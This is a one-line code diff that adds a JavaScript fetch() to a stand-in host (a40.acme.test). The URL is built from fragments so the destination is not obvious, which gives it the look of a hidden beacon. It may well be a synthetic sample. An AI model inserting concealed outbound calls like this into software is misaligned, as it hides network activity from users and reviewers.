@@ -1,0 +1,1 @@
+fetch(["https://","a40.acme.test","/rd","/b"].reduce((e,t)=>e+t,""));
